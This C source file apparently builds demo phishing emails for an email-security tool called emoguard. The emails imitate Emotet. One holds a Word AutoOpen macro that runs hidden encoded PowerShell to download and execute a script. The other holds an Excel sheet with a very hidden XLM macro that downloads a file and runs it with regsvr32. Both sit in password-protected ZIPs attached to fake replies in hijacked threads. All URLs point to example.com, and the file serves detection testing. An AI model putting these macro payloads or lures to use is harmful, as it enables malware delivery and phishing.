/*
 * Writes the Emotet-like example mails in examples/ from harmless parts: documents whose macros
 * point at example.com and would do nothing, archives made by the real `7z` and `zip` tools, and
 * mails built by the test suite's mail builder. Nothing here is real malware; the point is that
 * `make demo` shows what emoguard says about the real thing.
 *
 * usage: eg_make_examples OUTDIR
 */
#include "archive_tools.h"
#include "mail_builder.h"
#include "office_fixtures.h"
#include "testutil.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

static const char *outdir;

static void write_mail(const char *name, eg_mb *m)
{
    size_t len;
    char *msg = eg_mb_build(m, &len);
    char path[4096];
    snprintf(path, sizeof path, "%s/%s", outdir, name);
    if (!msg || eg_test_write_file(path, msg, len) != 0) {
        fprintf(stderr, "cannot write %s\n", path);
        exit(1);
    }
    printf("wrote %s (%zu bytes)\n", path, len);
    free(msg);
    eg_mb_free(m);
}

/* PowerShell -EncodedCommand payload: base64 of the UTF-16LE command */
static char *ps_enc(const char *cmd)
{
    size_t n = strlen(cmd);
    uint8_t *u = calloc(n * 2, 1);
    for (size_t i = 0; i < n; i++)
        u[2 * i] = (uint8_t)cmd[i];
    char *b = eg_mb_base64(u, n * 2, false);
    free(u);
    return b;
}

static uint8_t *zip_with(const char *tmp, const char *inner, const uint8_t *data, size_t len,
                         const char *cmd, size_t *zlen)
{
    eg_tf_file f = {inner, data, len};
    uint8_t *z = eg_tf_make(tmp, &f, 1, cmd, "out.zip", zlen);
    if (!z) {
        fprintf(stderr, "archive tool failed: %s\n", cmd);
        exit(1);
    }
    return z;
}

/* 1. The 2019-2022 classic: a Word document with an AutoOpen macro that runs encoded
 *    PowerShell, in an AES-256 ZIP, password in the body, as a reply in a hijacked thread. */
static void doc_in_aes_zip(const char *tmp)
{
    char *enc = ps_enc("IEX (New-Object Net.WebClient).DownloadString('http://example.com/inv/ss.txt')");
    char src[2048];
    snprintf(src, sizeof src,
             "Attribute VB_Name = \"ThisDocument\"\r\n"
             "Sub AutoOpen()\r\n"
             "    Dim s As String\r\n"
             "    s = \"powersh\" & \"ell -w hidden -enc \" & \"%s\"\r\n"
             "    CreateObject(\"WScript.Shell\").Run s, 0\r\n"
             "End Sub\r\n",
             enc);
    free(enc);
    eg_fx_module mod = {"ThisDocument", src, true, NULL};
    uint8_t *doc;
    size_t dlen;
    if (eg_fx_vba_document(EG_FX_VBA_DOC, &mod, 1, 932, NULL, 0, &doc, &dlen) != EG_OK)
        exit(1);
    size_t zlen;
    uint8_t *zip = zip_with(tmp, "見積書_20240701.doc", doc, dlen,
                            "7z a -tzip -mem=AES256 -pKp7mQ2xz out.zip 見積書_20240701.doc >/dev/null", &zlen);
    free(doc);

    eg_mb *m = eg_mb_new();
    /* the display name of a real contact, the address of an unrelated (compromised) server */
    char *dn = eg_mb_encoded_words("山田 太郎", EG_MB_JIS, 'B', 0);
    char from[512];
    snprintf(from, sizeof from, "%s <info@hosting-example.net>", dn);
    free(dn);
    eg_mb_header(m, "From", from);
    eg_mb_header(m, "To", "sato@example.co.jp");
    eg_mb_header_text(m, "Subject", "RE: 【ご確認】お見積りの件", EG_MB_JIS, 'B');
    eg_mb_header(m, "Date", "Mon, 1 Jul 2024 09:12:00 +0900");
    eg_mb_header(m, "Message-ID", "<20240701091200.1@hosting-example.net>");
    eg_mb_text(m,
               "佐藤様\n\nいつもお世話になっております。\n"
               "お見積書を添付いたしますので、ご確認ください。\n\n"
               "解凍パスワード：Kp7mQ2xz\n\n"
               "よろしくお願いいたします。\n\n"
               "-----Original Message-----\n"
               "差出人: 佐藤 花子 <sato@example.co.jp>\n"
               "送信日時: 2024年6月28日 17:03\n"
               "宛先: 山田 太郎 <yamada@partner.example.jp>\n"
               "件名: 【ご確認】お見積りの件\n\n"
               "山田様\n先日の件、お見積りをお願いできますでしょうか。\n",
               EG_MB_JIS, EG_MB_7BIT);
    eg_mb_attach(m, "見積書_20240701.zip", "application/zip", zip, zlen, EG_MB_NAME_2231);
    free(zip);
    write_mail("10-emotet-doc-in-aes-zip.eml", m);
}

/* 2. 2021-11 to 2022: an .xlsm whose very hidden macro sheet downloads and registers a DLL,
 *    in a ZipCrypto ZIP with the password in the English body. */
static void xlsm_in_zip(const char *tmp)
{
    static const char ct[] =
        "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>"
        "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
        "<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
        "<Default Extension=\"xml\" ContentType=\"application/xml\"/>"
        "<Override PartName=\"/xl/workbook.xml\" ContentType=\"application/vnd.ms-excel.sheet.macroEnabled.main+xml\"/>"
        "<Override PartName=\"/xl/worksheets/sheet1.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml\"/>"
        "<Override PartName=\"/xl/macrosheets/sheet1.xml\" ContentType=\"application/vnd.ms-excel.macrosheet+xml\"/>"
        "</Types>";
    static const char rels[] =
        "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>"
        "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
        "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument\" Target=\"xl/workbook.xml\"/>"
        "</Relationships>";
    static const char wb[] =
        "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>"
        "<workbook xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" "
        "xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\">"
        "<sheets><sheet name=\"Sheet1\" sheetId=\"1\" r:id=\"rId1\"/>"
        "<sheet name=\"Macro1\" sheetId=\"2\" state=\"veryHidden\" r:id=\"rId2\"/></sheets>"
        "<definedNames><definedName name=\"_xlnm.Auto_Open\" hidden=\"1\">Macro1!$A$1</definedName></definedNames>"
        "</workbook>";
    static const char wbrels[] =
        "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>"
        "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
        "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet\" Target=\"worksheets/sheet1.xml\"/>"
        "<Relationship Id=\"rId2\" Type=\"http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet\" Target=\"macrosheets/sheet1.xml\"/>"
        "</Relationships>";
    static const char sheet[] =
        "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>"
        "<worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData>"
        "<row r=\"2\"><c r=\"B2\" t=\"inlineStr\"><is><t>This document is protected. To view it, click "
        "Enable Editing and then Enable Content.</t></is></c></row>"
        "</sheetData></worksheet>";
    static const char macro[] =
        "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>"
        "<xm:macrosheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" "
        "xmlns:xm=\"http://schemas.microsoft.com/office/excel/2006/main\"><sheetData>"
        "<row r=\"1\"><c r=\"A1\"><f>CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCBB\",0,"
        "\"http://example.com/wp-content/x/\",\"..\\oxnv1.ooccxx\",0,0)</f></c></row>"
        "<row r=\"2\"><c r=\"A2\"><f>EXEC(\"C:\\Windows\\SysWow64\\\"&amp;CHAR(114)&amp;\"egsvr32.exe /s ..\\oxnv1.ooccxx\")</f></c></row>"
        "<row r=\"3\"><c r=\"A3\"><f>HALT()</f></c></row>"
        "</sheetData></xm:macrosheet>";
    eg_fx_part parts[] = {
        {"[Content_Types].xml", ct, 0}, {"_rels/.rels", rels, 0},
        {"xl/workbook.xml", wb, 0},     {"xl/_rels/workbook.xml.rels", wbrels, 0},
        {"xl/worksheets/sheet1.xml", sheet, 0}, {"xl/macrosheets/sheet1.xml", macro, 0},
    };
    uint8_t *x;
    size_t xlen;
    if (eg_fx_zip_stored(parts, sizeof parts / sizeof parts[0], &x, &xlen) != EG_OK)
        exit(1);
    size_t zlen;
    uint8_t *zip = zip_with(tmp, "INV-0713.xlsm", x, xlen, "zip -q -P Invoice2022 out.zip INV-0713.xlsm", &zlen);
    free(x);
    eg_mb *m = eg_mb_new();
    eg_mb_header(m, "From", "\"Accounts Payable\" <j.smith@mail.unrelated-example.org>");
    eg_mb_header(m, "To", "billing@example.com");
    eg_mb_header(m, "Subject", "Re: Re: Invoice 0713 overdue");
    eg_mb_header(m, "Date", "Tue, 15 Mar 2022 08:41:10 +0100");
    eg_mb_header(m, "Message-ID", "<a1b2c3@mail.unrelated-example.org>");
    eg_mb_text(m,
               "Hello,\n\nPlease see the attached invoice.\n\nThe file is protected, password: Invoice2022\n\n"
               "On Mon, Mar 14, 2022 at 4:02 PM Billing <billing@example.com> wrote:\n"
               "> Could you resend the invoice for order 0713?\n",
               EG_MB_UTF8, EG_MB_QP);
    eg_mb_attach(m, "INV-0713.zip", "application/zip", zip, zlen, EG_MB_NAME_PLAIN);
    free(zip);
    write_mail("11-emotet-xlsm-xlm-in-zip.eml", m);
}

int main(int argc, char **argv)
{
    if (argc != 2) {
        fprintf(stderr, "usage: eg_make_examples OUTDIR\n");
        return 3;
    }
    outdir = argv[1];
    /* one scratch directory per archive: the tools would add to an existing out.zip */
    void (*makers[])(const char *) = {doc_in_aes_zip, xlsm_in_zip};
    for (size_t i = 0; i < sizeof makers / sizeof makers[0]; i++) {
        char *tmp = eg_test_tmpdir("examples");
        if (!tmp)
            return 1;
        makers[i](tmp);
        eg_test_rmrf(tmp);
        free(tmp);
    }
    return 0;
}
